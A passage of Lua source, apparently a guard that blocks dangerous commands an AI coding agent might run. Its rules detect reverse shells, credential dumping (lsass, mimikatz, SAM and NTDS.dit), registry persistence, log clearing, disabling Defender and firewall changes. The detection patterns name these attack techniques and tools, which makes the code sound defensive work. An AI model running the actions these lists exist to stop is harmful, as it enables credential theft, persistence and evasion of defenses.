    -- a pipe into xargs is xargs's input, not the shell's script
    local piped = c.pipe_in
    for _, w in ipairs(c.wrappers) do
      if w == "xargs" then piped = false end
    end
    if piped then return true end
    for _, r in ipairs(c.redirs) do
      if r.op:find("^<<") then return true end
    end
    return false
  end
  -- installing and removing the system's packages from its repositories
  -- is the packages pack's business (a package file is package-file's)
  if SYSTEM_PACKAGERS[n] then return true end
  local pats = READS[n]
  if not pats then return false end
  if n == "find" and any_arg(c, FIND_WRITES) then return false end
  if #paths.writes({ name = n, args = c.args, redirs = {} }) > 0 then return false end
  local ts
  for _, words in ipairs(pats) do
    if #words == 0 then return true end
    ts = ts or operand_list(c)
    if reads_pattern(c, words, ts) then return true end
  end
  return false
end

-- PRIV_VALUES: the options of sudo, doas and pkexec that take a value
-- (short letters, long names); the user is -u/--user's.
local PRIV_SHORT = { sudo = "ugprCDhTUtc", doas = "uC", pkexec = "" }
local PRIV_LONG = set({ "--user", "--group", "--prompt", "--role", "--close-from", "--chdir", "--host", "--type",
  "--command-timeout", "--other-user", "--login-class" })
local function root_user(t)
  return t == "root" or t == "0" or t == "#0" or t:find("%z") ~= nil
end

-- own_root reports whether c runs as root by its own wrappers: sudo, doas
-- or pkexec naming no user, or root (sudo -u root, doas -u root).
local function own_root(c)
  local priv = false
  for _, w in ipairs(c.wrappers) do
    if PRIV[w] then priv = true end
  end
  if not priv or not c.argv then return false end
  local argv, last = c.argv, (c.word_at or (#c.argv + 1)) - 1
  local k = 1
  while k <= last do
    local short = PRIV_SHORT[shell.basename(argv[k].text)]
    k = k + 1
    if short then
      local user
      while k <= last do
        local t = argv[k].text
        if t == "--" then k = k + 1; break end
        if t:sub(1, 1) ~= "-" or t == "-" then break end
        local long, v = t:match("^(%-%-[%w-]+)=(.*)$")
        if long then
          if long == "--user" then user = v end
        elseif PRIV_LONG[t] then
          if t == "--user" and argv[k + 1] then user = argv[k + 1].text end
          k = k + 1
        elseif t:sub(2, 2) ~= "-" then
          -- a cluster: the first letter taking a value takes the rest, or the next word
          for j = 2, #t do
            local ch = t:sub(j, j)
            if short:find(ch, 1, true) then
              local val = t:sub(j + 1)
              if val == "" then
                k = k + 1
                val = argv[k] and argv[k].text or ""
              end
              if ch == "u" then user = val end
              break
            end
          end
        end
        k = k + 1
      end
      if user == nil or root_user(user) then return true end
    end
  end
  return false
end

-- run0_program returns the program run0 runs as root (its first operand
-- after its options), or nil when it names another user or none.
local RUN0_VALUES = set({ "-u", "--user", "-g", "--group", "-D", "--chdir", "--unit", "--property", "--description",
  "--slice", "--slice-inherit", "--nice", "--setenv", "--background", "--machine", "--shell-prompt-prefix" })
local function run0_program(c)
  local k = 1
  while c.args[k] do
    local t = c.args[k].text
    if t == "-u" or t == "--user" then
      local u = c.args[k + 1] and c.args[k + 1].text or ""
      if not root_user(u) then return nil end
      k = k + 1
    elseif t:find("^%-%-user=") and not root_user(t:sub(8)) then
      return nil
    elseif RUN0_VALUES[t] then
      k = k + 1
    elseif t:sub(1, 1) ~= "-" or c.args[k].unknown then
      return c.args[k]
    end
    k = k + 1
  end
  return nil
end

-- as_root reports whether c runs as root and is not only reading.
local function as_root(c, cwd, made)
  local n = c.name
  if n == "sudoedit" or ((n == "sudo" or n == "doas") and flag(c, "e", "edit")) then return true end
  if n == "run0" then
    local w = run0_program(c)
    if not w then return false end
    local pats = READS[shell.basename(w.text):lower()]
    return not (pats and #pats[1] == 0 and not w.unknown)
  end
  return c.system_root == true and not root_reads(c, cwd, made)
end

-- service-stop: stopping a service of the machine's (one that is neither
-- a security service nor a critical one: those rules deny): systemctl
-- stop/kill/freeze/isolate, service X stop, invoke-rc.d, rc-service,
-- /etc/init.d/X stop, initctl stop, brew services stop, snap stop/disable,
-- launchctl stop/kill/remove, nginx -s stop/quit,
-- apachectl stop/graceful-stop, sv down, s6-svc -d, caddy stop, Windows'
-- net stop and sc stop/delete/config. Restarts and reloads keep it
-- running: they pass, as do process managers of one's own programs (pm2,
-- supervisorctl) and kill of a process.
local SERVICE_STOPS = set({ "stop", "kill", "freeze", "disable", "mask", "isolate" })
local ACTION_STOPS = set({ "stop", "force-stop", "disable", "remove", "off", "zap", "kill", "graceful-stop" })
local HAPROXY_STOPS = "(?im)^\\s*(?:disable\\s+(?:server|frontend|backend)|shutdown\\s+(?:sessions?|frontend)|" ..
  "set\\s+server\\s+\\S+\\s+state\\s+(?:maint|drain))\\b"
local SV_STOPS = set({ "down", "d", "stop", "kill", "k", "exit", "x", "force-stop", "force-shutdown", "once" })
local function service_stop(c)
  local n = c.name
  if not n then return false end
  if n == "systemctl" then
    return SERVICE_STOPS[systemctl(c) or ""] == true
  elseif n == "service" or n == "rc-service" or n == "invoke-rc.d" then
    local _, ts = operands(c)
    return ACTION_STOPS[ts[2] or ""] == true
  elseif n == "brew" or n == "snap" then
    -- brew services stop NAME (launchd), snap stop/disable NAME
    local _, ts = operands(c)
    if n == "brew" then return ts[1] == "services" and (ts[2] == "stop" or ts[2] == "kill") end
    return ts[1] == "stop" or ts[1] == "disable"
  elseif c.word and not c.word.unknown and (c.word.text:find("^/etc/init%.d/") or c.word.text:find("^/etc/rc%.d/")
    or c.word.text:find("^/usr/local/etc/rc%.d/")) then
    local _, ts = operands(c)
    return ACTION_STOPS[ts[1] or ""] == true
  elseif n == "initctl" or n == "launchctl" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    return v == "stop" or (n == "launchctl" and (v == "kill" or v == "remove"))
  elseif n == "nginx" or n == "openresty" then
    for k, a in ipairs(c.args) do
      local v = a.text:match("^%-s(.+)$") or (a.text == "-s" and c.args[k + 1] and c.args[k + 1].text)
      if v == "stop" or v == "quit" then return true end
    end
  elseif n == "apachectl" or n == "apache2ctl" or n == "httpd" or n == "apache2" then
    local _, ts = operands(c)
    for _, t in ipairs(ts) do
      if t == "stop" or t == "graceful-stop" then return true end
    end
  elseif n == "sv" then
    local _, ts = operands(c)
    return SV_STOPS[ts[1] or ""] == true
  elseif n == "s6-svc" or n == "s6-rc" then
    return flag(c, "dDkx", nil) or (n == "s6-rc" and select(2, operands(c))[1] == "down")
  elseif n == "caddy" then
    return select(2, operands(c))[1] == "stop"
  elseif (n == "socat" or NETCAT[n]) and c.pipe_in and c.upstream then
    -- a load balancer's runtime API told to take servers out of service
    -- (echo 'disable server be/web1' | socat stdio /run/haproxy.sock)
    local out = shell.output(c.upstream)
    return out ~= nil and re.match(HAPROXY_STOPS, out)
  elseif n == "net" or n == "net1" then
    return select(2, operands(c))[1] == "stop"
  elseif n == "sc" or n == "sc.exe" then
    local _, ts = operands(c)
    local v = ts[1] or ""
    if v:find("^\\\\") then v = ts[2] or "" end
    return v == "stop" or v == "delete" or (v == "config" and any_arg(c, "(?i)^disabled$"))
  end
  return false
end

-- Windows: its programs and cmdlets that schedule, persist, turn defenses
-- off, dump credentials, change disks or system files, each judged by the
-- rule of its class (windows_rule). A command is given as its name
-- (lower-case, ".exe" dropped) and its words' texts, so that a shell
-- line's command (Git Bash: schtasks.exe /create …), a PowerShell one and
-- one cmd /c runs are read alike; a folder may be spelled with \ or /, or
-- with none (a POSIX reading drops an unquoted \: HKLM\SAM -> HKLMSAM).
-- WIN holds the Windows reading: rule (windows_rule), names (the names
-- it reads), texts (a command's words as rule reads them).
local WIN = {}
do
  local S = "[\\\\/]?"
  -- registry keys whose values start programs: Run, RunOnce, RunServices,
  -- Winlogon (Userinit, Shell), Image File Execution Options (Debugger),
  -- services, AppInit_DLLs, Active Setup, Explorer's policies Run
  local PERSIST_KEYS = "(?i)currentversion" .. S .. "(?:run|runonce|runonceex|runservices|runservicesonce|" ..
    "winlogon|image ?file ?execution ?options|windows" .. S .. "(?:appinit_dlls|load|run)|" ..
    "policies" .. S .. "explorer" .. S .. "run|explorer" .. S .. "(?:shell ?folders|user ?shell ?folders))(?:$|[\\\\/\\s])|" ..
    "currentcontrolset" .. S .. "services" .. S .. "\\S|active ?setup" .. S .. "installed ?components|" ..
    "appinit_dlls|userinit|silentprocessexit|startup ?approved|userinitmprlogonscript"
  -- registry keys of Microsoft Defender's and the firewall's settings
  local DEFENSE_KEYS = "(?i)windows ?defender|windowsfirewall|sharedaccess" .. S .. "parameters" .. S .. "firewallpolicy|" ..
    "\\bdisableantispyware|\\bdisablerealtimemonitoring|\\benablelua\\b"
  -- registry values that keep passwords in memory in clear or let them be
  -- read: WDigest's UseLogonCredential, LSA's protection (RunAsPPL)
  local CRED_KEYS = "(?i)wdigest|uselogoncredential|runasppl|disablerestrictedadmin|control" .. S .. "lsa\\b"
  -- WMI event subscriptions: a filter bound to a consumer runs a program
  -- whenever the event fires, a persistence of the catalogues'
  local WMI_PERSIST = "(?i)__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding"
  -- the hives that hold password hashes and the domain's database
  local HIVES = "(?i)^(?:hklm|hkey_local_machine):?" .. S .. "(?:sam|system|security)$"
  local CRED_FILES = "(?i)ntds\\.dit|harddiskvolumeshadowcopy|system32" .. S .. "config" .. S .. "(?:sam|system|security)(?:$|[^\\w])"
  -- a process's memory dumped: lsass (which holds the logged-on users'
  -- secrets), comsvcs.dll's MiniDump, mimikatz's modules
  local CRED_DUMP = "(?i)\\blsass\\b|mimikatz|sekurlsa|lsadump|comsvcs(?:\\.dll)?\\b.*minidump|minidump.*comsvcs"
  -- a system folder in Windows form: C:\Windows, C:\Program Files (x86),
  -- C:\ProgramData, a drive's root, %windir%, $env:SystemRoot
  local WIN_SYSTEM = "(?i)^(?:[a-z]:" .. S .. "|[\\\\/]+)(?:windows|program ?files(?: ?\\(x86\\))?|programdata|" ..
    "boot|system volume information)|^[a-z]:[\\\\/]*$|%(?:windir|systemroot|programfiles|programdata)%|" ..
    "\\$env:(?:windir|systemroot|programfiles|programdata)"
  -- the Startup folders: a program put there starts at every logon
  local STARTUP_DIR = "(?i)start ?menu" .. S .. "programs" .. S .. "startup|shell:(?:common ?)?startup"
  local ICACLS_CHANGES = set({ "/grant", "/grant:r", "/deny", "/remove", "/remove:g", "/remove:d", "/setowner",
    "/reset", "/inheritance:r", "/inheritance:d", "/inheritance:e", "/setintegritylevel", "/restore" })
  local SCHTASKS_CHANGES = set({ "/create", "/change", "/delete" })
  local REG_WRITES = set({ "add", "delete", "import", "copy", "restore", "load", "unload" })
  local WIN_FIREWALL = set({ "new-netfirewallrule", "set-netfirewallrule", "remove-netfirewallrule",
    "disable-netfirewallrule", "enable-netfirewallrule", "rename-netfirewallrule", "copy-netfirewallrule",
    "set-netfirewallprofile", "set-netfirewallsetting" })
  local WIN_DISKS = set({ "format-volume", "clear-disk", "initialize-disk", "remove-partition", "new-partition",
    "resize-partition", "set-partition", "set-disk", "diskpart", "remove-physicaldisk" })
  local WIN_TASKS = set({ "register-scheduledtask", "set-scheduledtask", "unregister-scheduledtask",
    "disable-scheduledtask",
    "new-scheduledtask", "new-scheduledtasktrigger", "new-scheduledjob", "register-scheduledjob" })
  local WIN_REGWRITE = set({ "new-itemproperty", "set-itemproperty", "remove-itemproperty", "new-item", "set-item",
    "remove-item", "copy-itemproperty", "move-itemproperty", "rename-itemproperty" })
  local WIN_DUMPERS = set({ "procdump", "procdump64", "rundll32", "createdump", "sqldumper", "out-minidump",
    "ntdsutil", "dumpert", "nanodump", "pypykatz", "mimikatz", "invoke-mimikatz", "tttracer", "rdrleakdiag" })
  local WIN_COPIERS = set({ "copy-item", "copy", "xcopy", "robocopy", "esentutl", "cp", "cat", "type",
    "get-content", "move-item", "mv" })
  -- programs that delete or empty files: an event log's file (winevt\Logs)
  local WIN_REMOVERS = set({ "remove-item", "rm", "del", "erase", "clear-content", "move-item", "mv", "cipher",
    "sdelete", "sdelete64" })
  -- programs and cmdlets that create WMI instances (event subscriptions)
  local WIN_WMI = set({ "wmic", "set-wmiinstance", "new-ciminstance", "register-wmievent", "new-wmiinstance" })
  -- Windows features removed: Defender's
  local WIN_FEATURES = set({ "uninstall-windowsfeature", "remove-windowsfeature", "disable-windowsoptionalfeature",
    "dism" })

  -- reg_rule returns the rule a write to the registry keys j names breaks.
  local function reg_rule(j)
    if re.match(DEFENSE_KEYS, j) then return "security-services" end
    if re.match(CRED_KEYS, j) then return "credential-dump" end
    if j:find("terminal server", 1, true) and j:find("fdenytsconnections", 1, true) then return "firewall" end
    if re.match(PERSIST_KEYS, j) then return "persistence" end
    return nil
  end

  -- windows_rule returns the name of the rule a Windows command breaks, or
  -- nil. n: its name, ws: its words' texts.
  local function windows_rule(n, ws)
    local ts = {}
    for k, w in ipairs(ws) do ts[k] = w:lower() end
    local j = table.concat(ts, " ")
    if WIN_DUMPERS[n] and (n == "ntdsutil" or re.match(CRED_DUMP, j) or re.match(CRED_FILES, j))
      or WIN_COPIERS[n] and re.match(CRED_FILES, j) then
      return "credential-dump"
    end
    if n == "out-minidump" then return "credential-dump" end
    if WIN_COPIERS[n] and re.match(STARTUP_DIR, j) then return "persistence" end
    if WIN_REMOVERS[n] and re.match("(?i)winevt" .. S .. "logs", j) then return "logs" end
    if WIN_WMI[n] and re.match(WMI_PERSIST, j) then return "persistence" end
    if WIN_FEATURES[n] then
      if j:find("defender", 1, true) and (n ~= "dism" or j:find("disable", 1, true) or j:find("remove", 1, true)) then
        return "security-services"
      end
      return nil
    end
    if n == "schtasks" then
      for _, t in ipairs(ts) do
        if SCHTASKS_CHANGES[t] then return "cron" end
      end
    elseif WIN_TASKS[n] then
      return "cron"
    elseif n == "reg" then
      local v = ts[1] or ""
      if (v == "save" or v == "export") and ts[2] and re.match(HIVES, ts[2]) then return "credential-dump" end
      if REG_WRITES[v] then return reg_rule(j) end
    elseif WIN_REGWRITE[n] then
      if j:find("hk", 1, true) or j:find("registry::", 1, true) then return reg_rule(j) end
    elseif n == "netsh" then
      -- a port forwarded through this machine; Wi-Fi passwords shown in clear
      if j:find("portproxy", 1, true) and re.match("(?i)\\b(?:add|set|delete)\\b", j) then return "firewall" end
      if j:find("wlan", 1, true) and j:find("key=clear", 1, true) then return "credential-dump" end
    elseif n == "reagentc" then
      if j:find("/disable", 1, true) then return "recovery" end
    elseif n == "wevtutil" then
      local v = ts[1] or ""
      if v == "cl" or v == "clear-log" or v == "um" or v == "uninstall-manifest" then return "logs" end
      if (v == "sl" or v == "set-log") and j:find("/e[nabled]*:false") then return "logs" end
    elseif n == "clear-eventlog" or n == "remove-eventlog" or n == "limit-eventlog" then
      return "logs"
    elseif n == "fsutil" then
      if ts[1] == "usn" and ts[2] == "deletejournal" then return "logs" end
    elseif n == "auditpol" then
      for _, t in ipairs(ts) do
        if t == "/clear" or t == "/remove" or t:find("^/success:disable") or t:find("^/failure:disable") then
          return "audit"
        end
      end
    elseif WIN_FIREWALL[n] then
      if n ~= "set-netfirewallprofile" or not re.match("(?i)-enabled[\\s:]+(?:\\$?true|1)\\b", j) then
        return "firewall"
      end
    elseif WIN_DISKS[n] then
      return "disks"
    elseif n == "format" then
      if (ts[1] or ""):find("^%a:") then return "disks" end
    elseif n == "cipher" then
      for _, t in ipairs(ts) do
        if t:find("^/w") then return "disks" end
      end
    elseif n == "icacls" or n == "takeown" or n == "cacls" or n == "set-acl" then
      local changes = n ~= "icacls"
      local system = false
      for _, t in ipairs(ts) do
        if ICACLS_CHANGES[t] or t:find("^/grant") or t:find("^/deny") then changes = true end
        if re.match(WIN_SYSTEM, t) then system = true end
      end
      if changes and system then return "system-files" end
    elseif n == "vssadmin" then
      if ts[1] == "create" then return "credential-dump" end
    elseif n == "wmic" then
      if j:find("shadowcopy", 1, true) and j:find("create", 1, true) then return "credential-dump" end
    elseif n == "sc" or n == "net" or n == "net1" or n == "stop-service" or n == "set-service"
      or n == "remove-service" or n == "suspend-service" then
      -- a Windows service stopped, disabled or deleted: a security one
      -- (WinDefend, EventLog, MpsSvc, Sysmon) is turning a defense off
      if n == "sc" and (ts[1] == "create" or (ts[1] == "config" and j:find("binpath=", 1, true))) then
        return "persistence"
      end
      local verb, name
      if n == "sc" or n == "net" or n == "net1" then
        local k = (ts[1] or ""):find("^\\\\") and 2 or 1
        verb, name = ts[k] or "", ts[k + 1] or ""
        if not (verb == "stop" or verb == "delete" or verb == "pause"
          or (verb == "config" and (j:find("disabled", 1, true) or j:find("demand", 1, true)))) then
          return nil
        end
      else
        if n == "set-service" and not re.match("(?i)disabled|manual|stopped|-status\\s+stop", j) then return nil end
        for _, t in ipairs(ts) do
          if t:sub(1, 1) ~= "-" and SECURITY[unit(t)] then return "security-services" end
        end
        return nil
      end
      if SECURITY[unit(name)] then return "security-services" end
    elseif n == "new-service" then
      return "persistence"
    end
    return nil
  end
  -- WIN_NAMES are the names windows_rule reads.
  local WIN_NAMES = set({ "schtasks", "reg", "wevtutil", "clear-eventlog", "remove-eventlog", "limit-eventlog",
    "netsh", "reagentc",
    "fsutil", "auditpol", "format", "cipher", "icacls", "takeown", "cacls", "set-acl", "vssadmin", "wmic", "sc",
    "net", "net1", "stop-service", "set-service", "remove-service", "suspend-service", "new-service" })
  for _, s in ipairs({ WIN_TASKS, WIN_REGWRITE, WIN_FIREWALL, WIN_DISKS, WIN_DUMPERS, WIN_COPIERS, WIN_REMOVERS,
    WIN_WMI, WIN_FEATURES }) do
    for k in pairs(s) do WIN_NAMES[k] = true end
  end

  -- texts returns the texts of a command's words: its arguments, and for a
  -- cmdlet its parameters (-Name and values), as windows_rule reads them.
  local function texts(c)
    local out = {}
    for _, a in ipairs(c.args or {}) do out[#out + 1] = a.text end
    for _, w in ipairs(c.unknown_params or {}) do out[#out + 1] = w end
    for name, v in pairs(c.params or {}) do
      out[#out + 1] = "-" .. name
      if type(v) == "table" then
        for _, w in ipairs(v) do out[#out + 1] = w.text end
      end
    end
    return out
  end
  WIN.rule, WIN.names, WIN.texts = windows_rule, WIN_NAMES, texts
end


local rules = {
  { name = "reverse-shell", check = reverse_shell, why = "a reverse shell (a shell wired to a network connection)",
    instead = "do not open shells to the network; ask the user if you need remote access" },
  { name = "power", check = power, why = "shutting down or rebooting the machine",
    instead = "ask the user to do it" },
  { name = "kill-all", check = kill_all, why = "killing every process of a user, or every process a pattern " ..
    "matches (the agent's own shell and the user's session go with them)",
    instead = "kill the one program you started by its name or PID (pkill -f 'node server.js', kill %1)" },
  { name = "sudoers", check = sudoers, why = "a change to sudoers",
    instead = "tell the user which rule to add; do not grant yourself privileges" },
  { name = "accounts", check = accounts, why = "a change to user accounts, groups or passwords",
    instead = "tell the user which account change is needed and let them make it" },
  { name = "setuid", check = setuid, why = "setting a setuid/setgid bit or file capabilities",
    instead = "use ordinary permissions (755, 644, u+x)" },
  { name = "ssh-keys", check = ssh_keys, why = "installing SSH keys (authorized_keys)",
    instead = "ask the user to add the key" },
  { name = "cron", check = cron, why = "a change to scheduled jobs (crontab, at, /etc/cron*)",
    instead = "show the user the job to schedule; crontab -l lists the current ones" },
  { name = "security-services", check = security_services, why = "stopping or disabling a security service",
    instead = "leave security services running; ask the user if one is in the way" },
  { name = "services", check = services, why = "stopping or disabling a service the machine needs (ssh, network, …)",
    instead = "restart it if you must (systemctl restart NAME), or ask the user" },
  { name = "audit", check = audit, why = "turning auditing off or deleting audit rules",
    instead = "leave auditing alone; auditctl -l lists the rules" },
  { name = "mac", check = mac, why = "turning SELinux, AppArmor, Gatekeeper or SIP off or loosening it",
    instead = "leave it enforcing; getenforce and aa-status show the state, ask the user about a denial" },
  { name = "firewall", check = firewall, why = "a firewall change",
    instead = "leave the firewall alone; list its rules (iptables -L, nft list ruleset, ufw status) and ask the user" },
  { name = "logs", check = logs, why = "deleting or truncating system logs",
    instead = "leave logs alone; read them with journalctl or less" },
  { name = "persistence", check = persistence, why = "a change to services or programs started at boot or login",
    instead = "run the program in the foreground, or tell the user how to install the service" },
  { name = "recovery", check = recovery, why = "deleting snapshots or backups",
    instead = "leave snapshots and backups alone; ask the user to prune them" },
  { name = "disks", check = disks, why = "changing disks or partitions",
    instead = "ask the user to do it; fdisk -l and lsblk show the disks" },
  { name = "kernel", check = kernel, why = "a change to the kernel's modules or settings",
    instead = "ask the user to do it; lsmod and sysctl -a show the state" },
  { name = "mounts", check = mounts, why = "remounting or unmounting a system folder",
    instead = "leave the system's mounts alone; findmnt and mount list them, ask the user to change one" },
  { name = "boot", check = boot, why = "a change to the boot loader",
    instead = "ask the user to do it" },
  { name = "share", check = share, why = "sharing a folder over the network (an SMB or NFS share)",
    instead = "share nothing from this machine; ask the user to set up the share" },
  { name = "root-shell", check = root_shell, why = "a root shell or a privileged program's shell escape",
    instead = "run the one command you need, non-interactively, and only with the privilege it needs" },
  { name = "package-file", check = package_file, why = "installing a package file with root's rights (its scripts run as root)",
    instead = "install packages from the system's repositories, or ask the user to install the file" },
  { name = "root-server", check = root_server, why = "serving files or an API proxy with root's rights",
    instead = "run the server as yourself, from the project's folder" },
  { name = "credential-dump", check = function() return false end, why = "taking the system's passwords or hashes, or " ..
    "weakening their protection (the SAM or SECURITY hive, NTDS.dit, a shadow copy, lsass's memory, WDigest, Wi-Fi keys)",
    instead = "leave the machine's credentials alone; ask the user for the access you need" },
  -- the machine cut off its network: nmcli networking/radio off, device
  -- disconnect, connection down; ip link set … down; ifconfig … down;
  -- ifdown; networksetup … off; rfkill block (the agent's own connection
  -- and the user's remote session go with it)
  { name = "network-off", check = function(c)
    local n, a = c.name, c.args
    local t = {}
    for k = 1, #a do
      if k > 16 then break end
      if a[k].text:sub(1, 1) ~= "-" or n == "networksetup" then t[#t + 1] = a[k].text:lower() end
    end
    local last = t[#t]
    if n == "nmcli" then
      local obj, verb = t[1] or "", t[2] or ""
      if ("networking"):find("^" .. obj) and obj ~= "" then return verb == "off" end
      if ("radio"):find("^" .. obj) and obj ~= "" then return last == "off" end
      if ("device"):find("^" .. obj) and obj ~= "" then return verb == "disconnect" or verb == "down" end
      if ("connection"):find("^" .. obj) and obj ~= "" then return verb == "down" end
      return false
    elseif n == "ip" then
      local obj = t[1] or ""
      if obj ~= "" and ("link"):find("^" .. obj) and t[2] == "set" then
        for _, w in ipairs(t) do
          if w == "down" then return true end
        end
      end
      return false
    elseif n == "ifconfig" then
      return #t >= 2 and last == "down"
    elseif n == "ifdown" then
      return #t >= 1
    elseif n == "networksetup" then
      local verb = t[1] or ""
      return (verb == "-setairportpower" or verb == "-setnetworkserviceenabled") and last == "off"
        or verb == "-setv4off" or verb == "-setv6off"
    elseif n == "rfkill" then
      return t[1] == "block"
    end
    return false
  end, why = "cutting the machine off its network (an interface, the Wi-Fi or networking itself turned off)",
    instead = "leave the network up; ip link, nmcli device status and networksetup -listallhardwareports show it" },
  { name = "system-files", check = system_files, why = "writing, moving or deleting system files",
    instead = "work inside the project; tell the user which system file to change and how" },
}
local active = {}
for _, r in ipairs(rules) do
  if not ALLOWED[r.name] then active[#active + 1] = r end
end

-- The programs the rules look at by name, for shell.quick: a plain line
-- running none of them, with no /dev/tcp or /inet/ in it, is allowed
-- without parsing.
local PROGRAMS = {}
do
  local names = { "shutdown", "reboot", "halt", "poweroff", "kexec", "systemctl", "init", "telinit", "loginctl",
    "kill", "killall5", "pkill", "killall", "skill", "passwd", "chage", "dscl", "visudo", "sudoedit", "su", "runuser",
    "sg", "newgrp", "machinectl", "run0", "install", "setcap", "chmod", "launchctl", "update-rc.d", "rc-update",
    "systemd-run", "chkconfig", "service", "rc-service", "ssh-copy-id", "crontab", "at", "batch", "nft", "ufw",
    "firewall-cmd", "firewall-offline-cmd", "pfctl", "netsh", "insmod", "rmmod", "modprobe", "sysctl", "auditctl",
    "setenforce", "setsebool", "aa-teardown", "aa-disable", "aa-complain", "aa-audit", "semanage", "semodule",
    "apparmor_parser", "spctl", "csrutil", "mount", "umount", "net", "net1", "journalctl", "dmesg", "awk", "gawk", "lvremove", "vgremove", "pvremove", "lvreduce", "zfs",
    "zpool", "btrfs", "timeshift", "snapper", "tmutil", "vssadmin", "wmic", "wbadmin",
    "grub-install", "grub2-install", "update-grub", "update-grub2", "grub-reboot", "grub-set-default",
    "grub2-set-default", "grubby", "grub-mkconfig", "grub2-mkconfig", "efibootmgr", "bootctl", "bcdedit",
    "stop-computer", "restart-computer", "set-mppreference", "add-mppreference", "new-localuser",
    "remove-localuser", "set-localuser", "enable-localuser", "rename-localuser", "add-localgroupmember",
    "remove-localgroupmember", "new-localgroup", "remove-localgroup", "pwsh", "powershell", "pwsh.exe",
    "powershell.exe", "cmd", "cmd.exe", "mv", "cp", "ln", "rsync", "scp", "tee", "touch", "truncate", "sed", "gsed", "dd",
    "run-parts", "cpan", "sysrc", "mdatp", "log", "pvmove", "pvcreate", "vgreduce", "vgsplit", "vgmerge", "nbd-client",
    "losetup", "xfs_repair", "e2fsck", "fsck", "fsck.ext4", "resize2fs", "tune2fs", "samba-tool", "sudoedit",
    "initctl", "nginx", "openresty", "apachectl", "apache2ctl", "httpd", "apache2", "sv", "s6-svc", "s6-rc", "caddy",
    "sc", "sc.exe", "invoke-rc.d", "brew", "snap", "kextload", "kextunload", "kmutil", "nvram", "bless", "xattr",
    "socketfilterfw", "defaults", "exportfs", "new-smbshare", "grant-smbshareaccess", "set-smbshare", "nmcli", "ip",
    "ifconfig", "ifdown", "networksetup", "rfkill" }
  for _, set_ in ipairs({ ACCOUNT_TOOLS, LDAP_CHANGERS, REMOVERS, CHANGERS, IPTABLES, PARTITIONERS, NETCAT, SHELL_DEFAULT,
    ESCAPE_PROGRAMS, INTERACTIVE }) do
    for k in pairs(set_) do names[#names + 1] = k end
  end
  for _, k in ipairs(names) do PROGRAMS[#PROGRAMS + 1] = re.quote(k) end
  for _, k in ipairs(danger.PROGRAMS) do PROGRAMS[#PROGRAMS + 1] = k end
  PROGRAMS[#PROGRAMS + 1] = "ip6?tables-[a-z-]+"
  table.sort(PROGRAMS)
end
-- words: raw sockets, init scripts, a shell named as a word (yarn exec
-- /bin/sh), the guarded files' names, the variables escape_vars reads
local _, QUICK_MAX, QUICK_STOP = shell.quick({ programs = { PROGRAMS }, words = "/dev/|/inet|/etc/init\\.d/|" ..
  "(?:^|[ /=:,])" .. SHELL_NAMES .. "(?:$|[ ,])|\\.(?:bash|zsh|ksh|mksh|csh|tcsh)rc|\\.(?:bash_)?(?:profile|login|logout)|" ..
  "\\.z(?:shenv|profile|login|logout)|/etc/(?:profile|bashrc|bash\\.bashrc|zsh|environment|csh)|config\\.fish|" ..
  "pam_environment|xinitrc|xsessionrc|xprofile|sudoers|doas\\.conf|authorized_keys|LESSOPEN|LESSCLOSE|PERL5|" ..
  "BASH_ENV|ENV=|ZDOTDIR|PAGER=|EDITOR=|VISUAL=|PROMPT_COMMAND|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF" })
-- A second quick test, for a line the first lets through, in any case: a
-- shell named in capitals (Bash, SH), Windows' programs and cmdlets that
-- windows_rule reads (but the copiers and item cmdlets, stopped by the
-- words they must hold: a Run key, NTDS.dit, a Startup folder, winevt),
-- and macOS's LoginHook. Apart from QUICK_STOP, whose automaton it would
-- outgrow.
WIN.quick = "(?i)(?:^|[ /=:,])" .. SHELL_NAMES .. "(?:$|[ ,])|currentversion|currentcontrolset|ntds|shadowcopy|" ..
  "startup|lsass|comsvcs|mimikatz|sekurlsa|system32.config|winevt|eventfilter|eventconsumer|wdigest|control.lsa|" ..
  "terminal.server|defender|portproxy|loginhook|logouthook|" ..
  "(?:^|[ /(;&|])(?:schtasks|reg|wevtutil|fsutil|auditpol|format|cipher|i?cacls|takeown|diskpart|reagentc|" ..
  "procdump(?:64)?|rundll32|createdump|sqldumper|ntdsutil|dumpert|nanodump|pypykatz|tttracer|" ..
  "rdrleakdiag|(?:clear|remove|limit)-eventlog|[a-z]+-netfirewall[a-z]+|[a-z]+-scheduled(?:task|job)[a-z]*|" ..
  "format-volume|clear-disk|initialize-disk|[a-z]+-partition|set-disk|remove-physicaldisk|out-minidump|" ..
  "set-acl|(?:stop|set|remove|suspend|new)-service|set-wmiinstance|new-ciminstance|register-wmievent|" ..
  "(?:uninstall|remove)-windowsfeature|disable-windowsoptionalfeature|dism)(?:\\.exe)?(?:$|[ ;&|)])"

-- PowerShell: the PowerShell tool's command, pwsh/powershell -c in a shell
-- line, and a line of another tool that reads as PowerShell (pwsh.looks)
-- are read by lib/pwsh.lua; its commands are judged by these rules, named
-- as the shell rules are.
local PWSH_ACCOUNTS = set({ "new-localuser", "remove-localuser", "set-localuser", "enable-localuser",
  "rename-localuser", "add-localgroupmember", "remove-localgroupmember", "new-localgroup", "remove-localgroup" })
-- PWSH_NAMES are the cmdlets pwsh_rule reads: a line of a tool not named
-- PowerShell that runs one is read as PowerShell too.
local PWSH_NAMES = set({ "stop-computer", "restart-computer", "set-mppreference", "add-mppreference" })
for k in pairs(PWSH_ACCOUNTS) do PWSH_NAMES[k] = true end
for k in pairs(WIN.names) do
  if k:find("-", 1, true) then PWSH_NAMES[k] = true end
end
local BY_NAME = {}
for _, r in ipairs(active) do BY_NAME[r.name] = r end

-- defender_off reports whether Set-/Add-MpPreference turns a part of
-- Microsoft Defender off (-Disable…, but -Disable… $false / 0) or excludes
-- files, folders, processes or extensions from its scans (-Exclusion…).
local function defender_off(c, line)
  for _, w in ipairs(c.unknown_params) do
    if w:lower():find("^%-exclusion") then return true end
  end
  for name in pairs(c.params) do
    if name:lower():find("^exclusion") then return true end
  end
  for value in line:lower():gmatch("%-disable[%w]+[%s:]*([^%s;|]*)") do
    if value ~= "$false" and value ~= "0" then return true end
  end
  return false
end

local function pwsh_rule(c, line)
  local n = c.name or ""
  if n == "set-content" and c.via == "cmd /c" and c.word and c.word.text:lower():gsub("%.exe$", "") == "sc" then
    -- cmd.exe has no aliases: its sc is the service control program
    n = "sc"
  end
  if n == "stop-computer" or n == "restart-computer" then
